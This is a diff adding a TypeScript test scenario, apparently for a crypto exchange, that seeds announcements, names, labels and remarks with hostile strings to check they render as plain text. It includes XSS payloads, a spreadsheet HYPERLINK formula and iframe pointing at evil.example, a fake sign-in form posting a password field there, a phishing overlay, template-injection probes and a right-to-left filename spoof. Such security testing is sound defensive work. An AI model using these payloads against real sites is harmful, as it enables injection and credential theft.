@@ -1,0 +1,93 @@
+import { HOUR, type Scenario } from "../../area/scenario.ts";
+import { newAddress } from "../../crypto/address.ts";
+import type { World } from "../../world/world.ts";
+import { announcements } from "../content/exports.ts";
+import {
+  applyToBecomeOfficial,
+  ask,
+  elsewhere,
+  handInPassport,
+  type Person,
+  persona,
+  registerMerchant,
+  withdraw,
+} from "../story/exports.ts";
+
+/** Written by hand, each for one mistake a page could make. None does harm beyond a box that says it was let through. */
+const attacks = {
+  script: `<script>alert("title")</script>`,
+  image: `<img src=x onerror="alert('image')">`,
+  link: `<a href="javascript:alert('link')">Your prize</a>`,
+  attribute: `" autofocus onfocus="alert('attribute')`,
+  template: "{{7*7}} <%= 7*7 %> {count, plural, other {#}}",
+  formula: `=HYPERLINK("http://evil.example","open")`,
+  direction: "invoice\u202Egpj.exe",
+  invisible: "Mei\u200BLin\uFEFF",
+  stacked: `Z${"\u0337\u0322\u0489".repeat(20)}algo`,
+  endless: "W".repeat(180),
+  emoji: "👩‍👩‍👧‍👦".repeat(12),
+  quotes: `O'Brien & "Söhne" <GmbH>`,
+} as const;
+
+export const hostile = {
+  all: Object.values(attacks),
+  ...attacks,
+  name: `O'Brien <b>née</b> ${attacks.direction}`,
+  shortScript: "<script>alert(1)</script>",
+  /** What a body of a page may carry, to be cleaned by who shows it. */
+  page: [
+    "<style>body{display:none}</style>",
+    `<iframe src="https://evil.example/"></iframe>`,
+    `<form action="https://evil.example/"><input name="password"></form>`,
+    `<svg><animate onbegin="alert('svg')" attributeName="x"></animate></svg>`,
+    `<p style="position:fixed;inset:0;background:#fff">Session ended. Sign in at evil.example.</p>`,
+  ].join(""),
+} as const;
+
+const shop = {
+  emailAddress: "o'brien+tag@shop.example",
+  fullName: hostile.image.slice(0, 120),
+  shortName: hostile.shortScript,
+  businessScope: hostile.all.join(" ").slice(0, 500),
+};
+
+export const hostileContent: Scenario = {
+  name: "hostile-content",
+  topic: "content",
+  title: { en: "Hostile content", "zh-CN": "恶意内容" },
+  about: {
+    en: "News, names, labels and remarks full of markup, scripts, formulas, direction marks and endless words. All of it must show as text.",
+    "zh-CN": "公告、姓名、标签与备注中充满标记、脚本、公式、方向控制符与超长文本，均须按纯文本显示。",
+  },
+  begins: 2 * HOUR,
+  apply: (stage) => {
+    const { world } = stage;
+    publish(world);
+    const mei = persona(stage, "mei");
+    saveAddresses(world, mei);
+    for (const remark of hostile.all) ask(mei, { ...elsewhere.TRC20, remark }, "20");
+    withdraw(mei, { ...elsewhere.ETH, remark: hostile.image }, "0.1");
+    handInPassport(persona(stage, "fresh"), hostile.shortScript, hostile.name, "533380006");
+    const { uid: id } = persona(stage, "pending");
+    stage.act("reviewer", "decide", { queue: "kyc", id, decision: "reject", reason: hostile.image });
+    applyToBecomeOfficial(registerMerchant(stage, shop), shop);
+  },
+};
+
+/** Nobody can publish through the product: the rows are the content department's. */
+function publish(world: World): void {
+  hostile.all.forEach((text, index) => {
+    const both = { en: text, "zh-CN": `恶意 ${text}` };
+    const body = { en: `<p>${text}</p>${hostile.page}`, "zh-CN": `<p>${text}</p>${hostile.page}` };
+    const publishedAt = world.clock.now() - index * 60_000;
+    world.table(announcements).insert({ id: world.newId("ann"), title: both, summary: both, body, publishedAt });
+  });
+}
+
+function saveAddresses(world: World, mei: Person): void {
+  for (const text of hostile.all) {
+    const verification = { googleCode: mei.googleCode() };
+    const [label, address] = [text.slice(0, 20), newAddress("tron", world.random)];
+    mei.call("createUserCoinAddress", { coin: "USDT", network: "TRC20", address, label, verification });
+  }
+}
